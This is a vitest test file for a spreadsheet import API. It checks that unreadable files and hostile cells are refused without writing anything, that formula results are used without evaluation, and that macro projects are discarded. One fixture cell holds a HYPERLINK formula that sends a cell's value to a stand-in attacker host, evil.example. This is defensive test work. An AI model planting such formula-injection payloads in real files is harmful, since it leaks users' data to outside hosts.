/**
 * Hostile spreadsheet files through `imports.preview` and `imports.apply` (via `invoke`,
 * desktop IPC and the browser host): a file that cannot be read is refused as a whole
 * with words that say why, a hostile workbook cell is refused at its row and column,
 * and nothing is written. Workbooks are read as data only: a formula's stored result is
 * used (never its text, never evaluated) and a macro project is ignored.
 */
import { existsSync, readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ImportPreview } from '../../src/contract/import-operations';
import { invoke } from '../../src/api/invoke';
import type { Result } from '../../src/contract/result';
import type { WorkspaceSession } from '../../src/api/session';
import type { ValidationIssue } from '../../src/model/issues';
import {
  COOPERATIVE_ROW_HEADERS,
  cooperativeCells,
  HOSTILE_CELLS,
  HOSTILE_FILES,
  MACRO_MARKER,
  withMacro,
  workbook,
  type ImportKindName,
} from '../fixtures/hostile/spreadsheet-files';
import { expectNamesField, storeState, type BrowserHost, useEntryPoints, type EntryPoints } from './harness';

let session: WorkspaceSession;
let ipc: EntryPoints['ipc'];
let host: BrowserHost;
useEntryPoints((points) => ({ session, ipc, host } = points));
/** Case name -> the file's base64, built once. */
const files = new Map<string, string>();

beforeAll(async () => {
  for (const hostile of [...HOSTILE_FILES, ...HOSTILE_CELLS]) {
    files.set(hostile.name, Buffer.from(await hostile.build()).toString('base64'));
  }
});

function fileInput(name: string, fileName: string, kind: ImportKindName) {
  const contentBase64 = files.get(name);
  if (contentBase64 === undefined) throw new Error(`no file built for ${name}`);
  return { fileName, contentBase64, kind, mode: 'add' as const };
}

type Input = ReturnType<typeof fileInput>;
type Call = (name: 'imports.preview' | 'imports.apply', input: Input) => Promise<Result<unknown>>;

/** The three ways in: the in-process contract, desktop IPC, the browser host over HTTP. */
const ENTRY_POINTS: readonly (readonly [string, () => Call])[] = [
  ['invoke', () => (name, input) => invoke(session, name, input, { lang: 'en' })],
  ['IPC', () => (name, input) => ipc(name, input)],
  [
    'browser host',
    () => async (name, input) => {
      const reply = await host.call(name, JSON.stringify(input));
      expect(reply.status).toBe(200);
      return reply.result;
    },
  ],
];

function previewOf(result: Result<unknown>): ImportPreview {
  expect(result.ok, 'a preview answers with its problems, it does not fail').toBe(true);
  if (!result.ok) throw new Error(result.error.message);
  return result.value as ImportPreview;
}

describe.each(HOSTILE_FILES.map((f) => [f.name, f] as const))('hostile file: %s', (name, hostile) => {
  it.each(ENTRY_POINTS)(
    'is refused as a whole by preview and apply via %s, in words, writing nothing',
    async (_via, caller) => {
      const call = caller();
      const before = storeState(session);
      const input = fileInput(name, hostile.fileName, hostile.kind);

      const preview = previewOf(await call('imports.preview', input));
      expect(preview.errors).toEqual([
        {
          row: null,
          column: null,
          field: null,
          key: hostile.key,
          message: expect.stringContaining(hostile.message),
        },
      ]);
      expect(preview.errorCount).toBe(1);
      expect(preview.rows).toEqual([]);

      const applied = await call('imports.apply', input);
      expect(applied.ok).toBe(false);
      if (applied.ok) return;
      expect(applied.error.code).toBe('invalid-input');
      expect(applied.error.message).toContain(hostile.message);
      const issues = applied.error.issues ?? [];
      expect(issues.map((i: ValidationIssue) => [i.pathText, i.params['importKey']])).toEqual([
        ['file', hostile.key],
      ]);
      expect(storeState(session)).toEqual(before);
    },
  );
});

describe.each(HOSTILE_CELLS.map((c) => [c.name, c] as const))(
  'hostile workbook cell: %s',
  (name, hostile) => {
    const location = `row 2, column "${hostile.column}"`;

    it.each(ENTRY_POINTS)(
      'is listed by preview and refused by apply via %s at its row and column, writing nothing',
      async (_via, caller) => {
        const call = caller();
        const before = storeState(session);
        const input = fileInput(name, 'werkmap.xlsx', hostile.kind);

        const preview = previewOf(await call('imports.preview', input));
        expect(preview.fileType).toBe('xlsx');
        expect(preview.errors.map((e) => [e.row, e.column, e.key])).toContainEqual([
          2,
          hostile.column,
          hostile.key,
        ]);
        expect(preview.rows.map((r) => r.status)).toEqual(['invalid']);
        // The preview shows a huge cell shortened, and no message repeats it.
        for (const text of Object.values(preview.rows[0]?.values ?? {}))
          expect(text.length).toBeLessThanOrEqual(200);
        for (const error of preview.errors) expect(error.message.length).toBeLessThan(300);

        const applied = await call('imports.apply', input);
        expectNamesField(applied, location);
        if (!applied.ok) expect(applied.error.message.length).toBeLessThan(1000);
        expect(storeState(session)).toEqual(before);
      },
    );
  },
);

/** Everything stored: the workspace, and the database file and its WAL as bytes. */
function storedText(): string {
  const store = session.file();
  const bytes = (file: string) => (existsSync(file) ? readFileSync(file).toString('latin1') : '');
  return JSON.stringify(store.load()) + bytes(store.path) + bytes(`${store.path}-wal`);
}

function storedCooperative(id: string) {
  return session
    .file()
    .load()
    .cooperatives.find((c) => c.id === id);
}

describe('workbooks read as data only', () => {
  it.each(ENTRY_POINTS)(
    'imports a formula’s stored result via %s, never its text, and evaluates nothing',
    async (via, caller) => {
      const call = caller();
      const id = `formule-${via.toLowerCase().replace(' ', '-')}`;
      const bytes = await workbook(COOPERATIVE_ROW_HEADERS, {
        ...cooperativeCells(id),
        Naam: { formula: 'HYPERLINK("http://evil.example/?x="&A1,"Zorg West")', result: 'Zorg West' },
        Leden: { formula: '1+2', result: 3 },
      });
      files.set(id, Buffer.from(bytes).toString('base64'));
      const input = fileInput(id, 'formules.xlsx', 'cooperatives');

      const preview = previewOf(await call('imports.preview', input));
      expect(preview.errorCount).toBe(0);
      expect(preview.rows[0]?.values).toMatchObject({ name: 'Zorg West', members: '3' });
      expect(await call('imports.apply', input)).toMatchObject({
        ok: true,
        value: { counts: { created: 1 } },
      });
      expect(storedCooperative(id)).toMatchObject({ name: 'Zorg West', members: 3 });
      expect(storedText()).not.toContain('HYPERLINK');
      expect(storedText()).not.toContain('evil.example');
    },
  );

  it.each(ENTRY_POINTS)(
    'imports the data of a macro workbook (.xlsm, and renamed .xlsx) via %s and keeps no macro',
    async (via, caller) => {
      const call = caller();
      for (const fileName of ['macro.xlsm', 'macro.xlsx']) {
        const id = `macro-${via.toLowerCase().replace(' ', '-')}-${fileName.slice(-4)}`;
        const bytes = withMacro(await workbook(COOPERATIVE_ROW_HEADERS, cooperativeCells(id)));
        expect(Buffer.from(bytes).toString('latin1')).toContain('vbaProject.bin');
        files.set(id, Buffer.from(bytes).toString('base64'));
        const input = fileInput(id, fileName, 'cooperatives');

        const preview = previewOf(await call('imports.preview', input));
        expect(preview).toMatchObject({ fileType: 'xlsx', errorCount: 0, counts: { created: 1 } });
        expect(await call('imports.apply', input)).toMatchObject({
          ok: true,
          value: { counts: { created: 1 } },
        });
        expect(storedCooperative(id)).toMatchObject({ name: 'Zorg West', members: 12 });
      }
      expect(storedText()).not.toContain(MACRO_MARKER);
      expect(storedText()).not.toContain('calc.exe');
    },
  );
});
